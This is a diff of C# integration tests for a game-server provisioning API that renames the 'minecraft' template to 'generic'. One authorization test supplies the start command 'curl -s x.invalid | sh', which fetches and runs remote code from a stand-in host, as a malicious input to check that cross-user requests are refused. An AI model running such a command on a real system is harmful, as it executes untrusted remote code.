@@ -15,7 +15,7 @@ public sealed class ApiTests(GatewayFixture fixture)
     {
         using var portal = fixture.CreateClient(TestTokens.For("api-game"));
 
-        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "minecraft", startCommand = "java -jar server.jar nogui", stopCommand = "stop", memoryMb = 2048 });
+        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "generic", startCommand = "java -jar server.jar nogui", stopCommand = "stop", memoryMb = 2048 });
         var result = await response.Content.ReadFromJsonAsync<ProvisionResult>(Json.Options);
 
         Assert.Equal(HttpStatusCode.Created, response.StatusCode);
@@ -56,7 +56,7 @@ public sealed class ApiTests(GatewayFixture fixture)
     }
 
     [Theory]
-    [InlineData("/api/servers", "{\"id\":IDENT,\"template\":\"minecraft\",\"startCommand\":\"curl -s x.invalid | sh\",\"memoryMb\":1024}")]
+    [InlineData("/api/servers", "{\"id\":IDENT,\"template\":\"generic\",\"startCommand\":\"curl -s x.invalid | sh\",\"memoryMb\":1024}")]
     [InlineData("/api/dev", "{\"id\":IDENT,\"runtime\":\"node\"}")]
     public async Task Provision_UserNamesAnId_SameRefusalWhetherItExistsAndTheVictimIsUntouched(string path, string body)
     {
@@ -85,7 +85,7 @@ public sealed class ApiTests(GatewayFixture fixture)
     {
         using var mallory = fixture.CreateClient(TestTokens.For("api-mallory-owner"));
 
-        var response = await mallory.PostAsJsonAsync("/api/servers", new { ownerId = "api-victim", template = "minecraft", startCommand = "x", memoryMb = 1024 });
+        var response = await mallory.PostAsJsonAsync("/api/servers", new { ownerId = "api-victim", template = "generic", startCommand = "x", memoryMb = 1024 });
 
         Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
         Assert.Equal("Only operators may provision for another user; leave ownerId out.", (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString());
@@ -299,7 +299,7 @@ public sealed class ApiTests(GatewayFixture fixture)
     private async Task<long> ProvisionGameAsync(string userId)
     {
         using var portal = fixture.CreateClient(TestTokens.For(userId));
-        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "minecraft", startCommand = "java -jar server.jar nogui", stopCommand = "stop", memoryMb = 2048 });
+        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "generic", startCommand = "java -jar server.jar nogui", stopCommand = "stop", memoryMb = 2048 });
         return (await response.EnsureSuccessStatusCode().Content.ReadFromJsonAsync<ProvisionResult>(Json.Options))!.ContainerId;
     }
 
